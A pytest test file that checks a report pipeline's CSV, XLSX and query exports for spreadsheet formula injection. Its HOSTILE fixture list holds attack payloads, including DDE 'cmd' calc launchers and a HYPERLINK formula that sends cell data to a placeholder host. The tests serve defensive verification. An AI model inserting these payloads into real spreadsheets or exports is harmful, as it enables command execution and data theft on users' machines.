"""Formula injection (issue 10 point 7): CSV and XLSX cells never start a
formula; numbers stay numbers; JSON and Parquet keep the text exact."""
from __future__ import annotations

import csv
import io
import json
from decimal import Decimal
from pathlib import Path

import pytest

from pipeline import store
from pipeline.batch import run_batch
from pipeline.compare import Pivot, write_pivot
from pipeline.output import (
    FORMULA_TRIGGERS,
    INDICATOR_COLUMNS,
    REPORT_COLUMNS,
    COLUMN_TYPES,
    CsvTable,
    neutralise,
    unneutralise,
)
from pipeline.query import query, write_csv

from conftest import SAMPLE_REPORT

# file names, titles, regions and sentences as an attacker would write them
HOSTILE = [
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://example.invalid/?q="&A1,"点击查看")',
    "'=already quoted",
    "- 一般的列表项",
]


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


def assert_inert(rows: list[list[str]], numeric: tuple[str, ...] = tuple(COLUMN_TYPES)) -> None:
    """No text cell starts a formula (the number columns hold plain numbers)."""
    header = rows[0]
    for row in rows[1:]:
        for name, cell in zip(header, row):
            if name in numeric:
                continue
            assert not cell.startswith(FORMULA_TRIGGERS[:-1]), (name, cell)


@pytest.mark.parametrize("text", HOSTILE)
def test_neutralise_is_exactly_undone(text):
    assert neutralise(text).startswith("'") and unneutralise(neutralise(text)) == text
    assert neutralise("南开区") == "南开区" == unneutralise("南开区")


def test_hostile_rows_in_every_table_writer(tmp_path):
    out = tmp_path / "out"
    out.mkdir()
    reports, indicators = CsvTable(out / "reports.csv", REPORT_COLUMNS), CsvTable(out / "indicators.csv",
                                                                                   INDICATOR_COLUMNS)
    for i, text in enumerate(HOSTILE):
        reports.write({"doc_id": f"d{i}", "source": text + ".txt", "title": text, "region": text, "agency": text,
                       "year": 2025, "n_sections": 1, "n_indicators": 1})
        indicators.write({"doc_id": f"d{i}", "source": text + ".txt", "region": text, "sentence": text,
                          "text": text, "actor": text, "value": Decimal("-5.25"), "value_high": None,
                          "start": 0, "end": 3})
    reports.close()
    indicators.close()
    rep = cells((out / "reports.csv").read_text(encoding="utf-8"))
    ind = cells((out / "indicators.csv").read_text(encoding="utf-8"))
    assert_inert(rep)
    assert_inert(ind)
    value = ind[0].index("value")
    assert all(r[value] == "-5.25" for r in ind[1:])  # a number is a number, not a marked text
    # Parquet and the query views keep the text exact, from the Parquet or from the CSV
    for name in ("reports", "indicators"):
        store.csv_to_parquet(out / f"{name}.csv", out / f"{name}.parquet")
    assert store.load(out)["reports"]["title"].tolist() == HOSTILE
    assert store.load(out)["indicators"]["sentence"].tolist() == HOSTILE
    csv_only = tmp_path / "csv_only"
    csv_only.mkdir()
    for name in ("reports", "indicators"):
        (csv_only / f"{name}.csv").write_bytes((out / f"{name}.csv").read_bytes())
    for folder in (out, csv_only):
        got = query("SELECT title, region FROM reports ORDER BY doc_id", [folder]).rows
        assert [r[0] for r in got] == HOSTILE and [r[1] for r in got] == HOSTILE
    # query --csv neutralises too, numbers excepted
    buf = io.StringIO()
    result = query("SELECT sentence, value FROM indicators ORDER BY doc_id", [out])
    write_csv(result.columns, result.rows, buf)
    assert_inert(cells(buf.getvalue()), ("value",))
    assert {r[1] for r in cells(buf.getvalue())[1:]} == {"-5.25"}


def test_hostile_file_names_and_titles_through_extract(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    names = []
    for i, text in enumerate(h for h in HOSTILE if "\r" not in h and "\t" not in h):
        name = f"{text}.txt"
        Path(name).parent.mkdir(parents=True, exist_ok=True)
        body = SAMPLE_REPORT.replace("某区司法局", f"{text}某区司法局").replace("60件", f"{60 + i}件")
        Path(name).write_text(body.replace("部分工作人员", f"{text}部分工作人员"), encoding="utf-8")
        names.append(name)
    out = tmp_path / "out"
    res = run_batch(names, out, formats=("json", "csv", "parquet"))
    assert res.processed == len(names) and not res.failed
    for table in ("reports", "sections", "indicators", "findings", "errors"):
        assert_inert(cells((out / f"{table}.csv").read_text(encoding="utf-8")))
    sources = store.load(out)["reports"]["source"].tolist()
    assert sorted(sources) == sorted(names)  # Parquet: exact
    docs = [json.loads(p.read_text(encoding="utf-8")) for p in out.rglob("*.json") if p.parent == out]
    assert sorted(d["source"]["path"] for d in docs) == sorted(names)  # JSON: exact
    titles = cells((out / "reports.csv").read_text(encoding="utf-8"))
    title = titles[0].index("title")
    assert any(unneutralise(r[title]).startswith(tuple(HOSTILE)) for r in titles[1:] if r[title])


def test_compare_pivot_csv_and_xlsx(tmp_path):
    openpyxl = pytest.importorskip("openpyxl")
    pivot = Pivot(indicator="court_appearances", label="出庭应诉", by="region", unit="次", unit_class="count",
                  years=(2024, 2025), rows=tuple(HOSTILE), cells=tuple((Decimal(-3), None) for _ in HOSTILE),
                  documents=len(HOSTILE), notes=("=1+1",))
    write_pivot(pivot, tmp_path / "p.csv")
    got = cells((tmp_path / "p.csv").read_text(encoding="utf-8"))
    assert_inert(got, ("2024", "2025"))
    assert [r[1] for r in got[1:]] == ["-3"] * len(HOSTILE)
    write_pivot(pivot, tmp_path / "p.xlsx")
    ws = openpyxl.load_workbook(tmp_path / "p.xlsx").worksheets[0]
    for cell in ws["A"][1:]:
        assert cell.data_type == "s", cell.value  # a string cell, never a formula
    assert [c.value for c in ws["A"]][1:] == HOSTILE  # the text exact
    assert {ws.cell(row=i + 2, column=2).value for i in range(len(HOSTILE))} == {-3}
    about = openpyxl.load_workbook(tmp_path / "p.xlsx")["about"]
    assert all(c.data_type == "s" for row in about.iter_rows() for c in row if isinstance(c.value, str))
